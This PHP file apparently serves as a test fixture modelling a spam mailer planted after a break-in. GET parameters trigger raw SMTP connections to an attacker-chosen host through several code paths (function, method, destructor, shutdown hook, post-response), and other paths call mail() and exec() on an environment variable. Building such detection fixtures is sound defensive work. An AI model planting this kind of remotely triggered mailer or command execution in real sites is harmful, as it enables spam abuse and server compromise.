<?php
/* SPDX-License-Identifier: GPL-2.0-only */
/* mailer.php - what a break-in leaves behind: a function, a method, a closure and mail(), one of which ?way= asks for. */
function evil_send($host, $port, $helo)
{
	$stream = fsockopen($host, $port); // function connects
	hear($stream);
	fwrite($stream, "EHLO $helo\r\n"); // function speaks
	converse($stream, 'a@actor.example');
}

class Mailer
{
	public function blast($host, $port, $helo)
	{
		$stream = stream_socket_client("tcp://$host:$port"); // method connects
		hear($stream);
		fwrite($stream, "EHLO $helo\r\n"); // method speaks
		converse($stream, 'a@actor.example');
	}

	public function __destruct()
	{
		if (($_GET['way'] ?? '') === 'destructor')
			$this->blast($_GET['host'], (int)$_GET['port'], $_GET['helo']);
	}
}

function give_to_mta()
{
	mail('b@victim.example', 'x', "hello\r\n"); // mail
}

function call_shell()
{
	exec('true; ' . getenv('BOT') . "\ntrue"); // exec
}

switch ($_GET['way'] ?? '') {
case 'function':
	evil_send($_GET['host'], (int)$_GET['port'], $_GET['helo']); // calls the function
	break;
case 'method':
	(new Mailer)->blast($_GET['host'], (int)$_GET['port'], $_GET['helo']); // calls the method
	break;
case 'destructor':
	$GLOBALS['kept'] = new Mailer; // destroyed when the request ends
	break;
case 'shutdown':
	register_shutdown_function('evil_send', $_GET['host'], (int)$_GET['port'], $_GET['helo']);
	break;
case 'finished':
	echo "over\n";
	fastcgi_finish_request();
	evil_send($_GET['host'], (int)$_GET['port'], $_GET['helo']);
	break;
case 'mail':
	give_to_mta(); // calls mail
	break;
case 'exec':
	call_shell(); // calls exec
	break;
}
